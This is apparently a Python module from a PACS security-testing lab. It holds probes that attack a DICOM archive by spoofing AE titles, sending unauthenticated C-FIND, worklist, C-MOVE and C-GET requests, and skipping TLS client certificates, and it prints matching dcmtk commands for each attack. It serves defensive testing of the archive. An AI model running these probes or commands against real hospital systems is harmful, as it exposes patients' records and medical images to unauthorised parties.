"""Attacks on query and retrieve over a DICOM association: C-ECHO, C-FIND, C-MOVE, C-GET, spoofed AE titles."""

from __future__ import annotations

import time
from typing import TYPE_CHECKING

from pydicom.dataset import Dataset
from pynetdicom import AE, _config, build_role, evt
from pynetdicom.sop_class import (  # type: ignore[attr-defined]
    ComputedRadiographyImageStorage,
    CTImageStorage,
    EncapsulatedPDFStorage,
    SecondaryCaptureImageStorage,
    StudyRootQueryRetrieveInformationModelGet,
    UltrasoundImageStorage,
)

from pacslab.errors import LimitReachedError, RefusedError
from pacslab.pacs import (
    ARCHIVE,
    AS_FORMER_DEVICE,
    AS_WORKSTATION,
    FORMER_DEVICE_TITLE,
    SCANNER,
    STRANGER,
    WORKSTATION,
    require_lab_address,
)
from pacslab.probes.attack.tls_without_client_certificate import c_find_without_certificate
from pacslab.probes.findings import Side
from pacslab.probes.registry import ProbeResult, probe
from pacslab.probes.target import AS_NOBODY_KNOWS, LEVELS, TIMEOUT, WRONG_TITLE
from pacslab.scenario import Severity

if TYPE_CHECKING:
    from pynetdicom.association import Association

    from pacslab.probes.target import Target

_STORAGE_CLASSES = (
    CTImageStorage,
    ComputedRadiographyImageStorage,
    UltrasoundImageStorage,
    SecondaryCaptureImageStorage,
    EncapsulatedPDFStorage,
)
_PENDING = {0xFF00, 0xFF01}
_STUDY_KEYS = {"StudyInstanceUID": "", "PatientName": "", "PatientID": "", "StudyDescription": ""}


def _dcmtk_command(target: Target, program: str, title: str, *keys: str) -> str:
    endpoint = target.archive.dicom
    called = target.handover.dicom.called_ae_title
    return " ".join([program, "-aet", title, "-aec", called, endpoint.host, str(endpoint.port), *keys])


def _c_find(target: Target, caller: str, level: str, wanted: dict[str, str], modality: str) -> list[dict[str, str]]:
    """Send an empty C-FIND; if that reaches the archive's limit, search for a single patient instead."""
    device = target.peers[caller]
    try:
        return device.find(level, wanted, modality)
    except LimitReachedError:
        study = target.key.study(target.key.facts["clinic_study_uid"])
        patient = next(patient for patient in target.key.patients if study in patient.studies)
        return device.find("Patient", {"PatientName": "", "PatientID": patient.patient_id}, modality)


def _c_find_at_each_level(target: Target, modality: str, title: str, caller: str) -> ProbeResult:
    """Send a C-FIND at each level in turn: a rule may forget a level."""
    reasons: list[str] = []
    for level in ("Study", "Patient", "Series", "Instance"):
        wanted = dict(_STUDY_KEYS) if level != "Patient" else {"PatientName": "", "PatientID": ""}
        try:
            answers = _c_find(target, caller, level, wanted, modality)
        except RefusedError as reason:
            reasons.append(str(reason))
            if len(reasons) > 1:
                break  # the caller is refused, not the level
            continue
        if answers:
            first = answers[0]
            name = first.get("PatientName", "").replace("^", " ")
            return ProbeResult(
                True,
                f"A C-FIND from {title} at the level {LEVELS[level]} gave {len(answers)} answers; the first belongs "
                f"to {name}, patient ID {first.get('PatientID', '')}.",
                target.search_by_hand(caller, title, level, "PatientName", "PatientID"),
            )
        reasons.append("no answer at all")
    words = f"The archive answered no C-FIND from {title} ({'; '.join(dict.fromkeys(reasons))})."
    return ProbeResult(False, words, target.search_by_hand(caller, title, "Study", "PatientName", "PatientID"))


@probe("dicom-echo-stranger", Side.ATTACK, "Open an association as an unknown device", Severity.LOW)
def echo_as_stranger(target: Target) -> ProbeResult:
    """Send a C-ECHO, DICOM's "are you there?", from an AE title that the hospital has never heard of."""
    asked = _dcmtk_command(target, "echoscu -v", STRANGER)
    try:
        target.stranger.echo()
    except RefusedError as reason:
        return ProbeResult(False, f"The archive did not answer a C-ECHO from {STRANGER}: {reason}.", asked)
    return ProbeResult(True, f"The archive opened an association for {STRANGER} and answered its C-ECHO.", asked)


@probe("dicom-called-title", Side.ATTACK, "Be answered without knowing the archive's title", Severity.LOW)
def call_by_wrong_title(target: Target) -> ProbeResult:
    """Call the archive by a title that is not its own, from a device that it knows."""
    asked = f"echoscu -v -aet {WORKSTATION} -aec {WRONG_TITLE} {target.archive.dicom.host} {target.archive.dicom.port}"
    device = target.peers[WORKSTATION]
    try:
        device.echo(AS_NOBODY_KNOWS)
    except RefusedError as reason:
        return ProbeResult(False, f"Called {WRONG_TITLE!r}, the archive did not answer: {reason}.", asked)
    return ProbeResult(
        True, f"Called {WRONG_TITLE!r}, which is not its title, the archive answered {WORKSTATION}.", asked
    )


@probe("dicom-scanner-searches", Side.ATTACK, "Search as a scanner that was taken over", Severity.MEDIUM)
def search_as_scanner(target: Target) -> ProbeResult:
    """Search from the CT scanner, which is listed because it has to store, and may do no more."""
    return _c_find_at_each_level(target, ARCHIVE, SCANNER, SCANNER)


@probe("dicom-worklist-stranger", Side.ATTACK, "Ask who comes today as an unknown device", Severity.HIGH)
def worklist_as_stranger(target: Target) -> ProbeResult:
    """Send a worklist C-FIND, by which scanners learn whom they examine next, from an unknown AE title."""
    asked = _dcmtk_command(target, "findscu -W", STRANGER, "-k PatientName -k ScheduledProcedureStepSequence")
    try:
        answers = target.stranger.worklist()
    except RefusedError as reason:
        return ProbeResult(False, f"The archive gave {STRANGER} no worklist: {reason}.", asked)
    if not answers:
        return ProbeResult(False, f"The archive answered {STRANGER}'s question for the worklist with nobody.", asked)
    name = str(answers[0].get("PatientName", "")).replace("^", " ")
    return ProbeResult(True, f"The worklist told {STRANGER} of {len(answers)} people; the first is {name}.", asked)


@probe("dicom-find-stranger", Side.ATTACK, "Search the archive as an unknown device", Severity.CRITICAL)
def search_as_stranger(target: Target) -> ProbeResult:
    """Send a C-FIND, DICOM's search, from an AE title that the hospital has never heard of."""
    return _c_find_at_each_level(target, ARCHIVE, STRANGER, STRANGER)


@probe("dicom-old-device", Side.ATTACK, "Search as a device that left years ago", Severity.HIGH)
def search_as_leftover(target: Target) -> ProbeResult:
    """Take the address and the title of a device that is still listed though it left, and search."""
    return _c_find_at_each_level(target, AS_FORMER_DEVICE, FORMER_DEVICE_TITLE, STRANGER)


@probe("dicom-borrowed-title", Side.ATTACK, "Search under the workstation's title", Severity.HIGH)
def search_as_workstation(target: Target) -> ProbeResult:
    """Call oneself WS01 and search: a title is a name, not a password.

    Over TLS the stranger first shows a certificate that nobody knows, then none at all: where a certificate is not
    required, Orthanc 1.10 refuses the one and takes the other.
    """
    seen = _c_find_at_each_level(target, AS_WORKSTATION, WORKSTATION, STRANGER)
    if seen.reached or not target.configuration.get("DicomTlsEnabled"):
        return seen
    names = c_find_without_certificate(target, WORKSTATION)
    if not names:
        return seen
    return ProbeResult(
        True,
        f"Over TLS, without any certificate, {STRANGER} called itself {WORKSTATION} and was told of "
        f"{names[0].replace('^', ' ')}.",
        _dcmtk_command(
            target, "findscu +tla -ic -S", WORKSTATION, "-k QueryRetrieveLevel=STUDY -k PatientName -k PatientID"
        ),
    )


@probe("dicom-move-stranger", Side.ATTACK, "Have images sent elsewhere as an unknown device", Severity.CRITICAL)
def move_as_stranger(target: Target) -> ProbeResult:
    """Send a C-MOVE, which asks the archive to send a study to another device, from an unknown AE title."""
    study = target.key.facts["deid_study_uid"]
    reasons = []
    begun = time.monotonic()
    for destination in (FORMER_DEVICE_TITLE, STRANGER, WORKSTATION):
        if time.monotonic() - begun > TIMEOUT:
            break  # an archive that holds a request up so long does not serve the next
        receiver = target.peers[WORKSTATION if destination == WORKSTATION else STRANGER]
        asked = _dcmtk_command(
            target,
            f"movescu -S -aem {destination}",
            STRANGER,
            f"-k QueryRetrieveLevel=STUDY -k StudyInstanceUID={study}",
        )
        receiver.forget(study)
        try:
            target.stranger.move(study, destination)
            count = receiver.wait_for(study, timeout_s=1.0)
        except RefusedError as reason:
            reasons.append(str(reason))
            continue
        finally:
            receiver.forget(study)
        if count:
            return ProbeResult(
                True,
                f"At {STRANGER}'s request the archive sent {count} images and documents of one study to "
                f"{receiver.name} (destination {destination}).",
                asked,
            )
        reasons.append(f"nothing arrived at {destination}")
    return ProbeResult(
        False, f"No C-MOVE from {STRANGER} delivered anything ({'; '.join(dict.fromkeys(reasons))}).", asked
    )


@probe("dicom-get-stranger", Side.ATTACK, "Fetch images as an unknown device", Severity.CRITICAL)
def get_as_stranger(target: Target) -> ProbeResult:
    """Send a C-GET, which returns the images over the caller's own connection, from an unknown AE title."""
    study = target.key.facts["deid_study_uid"]
    endpoint = target.archive.dicom
    require_lab_address(endpoint.host)
    received: list[int] = []

    def keep(event: evt.Event) -> int:
        received.append(len(event.encoded_dataset()))
        return 0x0000

    caller = AE(ae_title=STRANGER)
    caller.acse_timeout = caller.dimse_timeout = caller.network_timeout = caller.connection_timeout = TIMEOUT
    caller.add_requested_context(StudyRootQueryRetrieveInformationModelGet)
    for kind in _STORAGE_CLASSES:
        caller.add_requested_context(kind)
    asked = (
        f"getscu -aet {STRANGER} -aec {target.handover.dicom.called_ae_title} {endpoint.host} {endpoint.port} "
        f"-k QueryRetrieveLevel=STUDY -k StudyInstanceUID={study}"
    )
    association = caller.associate(
        endpoint.host,
        endpoint.port,
        ae_title=target.handover.dicom.called_ae_title,
        ext_neg=[build_role(kind, scp_role=True) for kind in _STORAGE_CLASSES],
        evt_handlers=[(evt.EVT_C_STORE, keep)],
        bind_address=(target.outsider or "", 0),
    )
    if not association.is_established:
        return ProbeResult(False, f"The archive refused an association from {STRANGER}.", asked)
    refusal = _c_get(association, study)
    if received:
        return ProbeResult(
            True,
            f"{STRANGER} fetched {len(received)} images and documents of one study ({sum(received):,} bytes) by C-GET.",
            asked,
        )
    return ProbeResult(False, f"The archive sent nothing for a C-GET from {STRANGER}: {refusal}.", asked)


def _c_get(association: Association, study_uid: str) -> str:
    """Send a C-GET for a study, release the association, and return in words why nothing came, if nothing came."""
    identifier = Dataset()
    identifier.QueryRetrieveLevel = "STUDY"
    identifier.StudyInstanceUID = study_uid
    refusal = "it offers no C-GET"
    try:
        for status, _ in association.send_c_get(identifier, StudyRootQueryRetrieveInformationModelGet):
            if not status:
                refusal = "it broke the association off"
            elif status.Status not in _PENDING and status.Status != 0:
                refusal = f"status 0x{status.Status:04X}"
    except ValueError:
        refusal = "it does not accept this service from a stranger"
    finally:
        if association.is_established:
            association.release()
    return refusal


_config.LOG_HANDLER_LEVEL = "none"
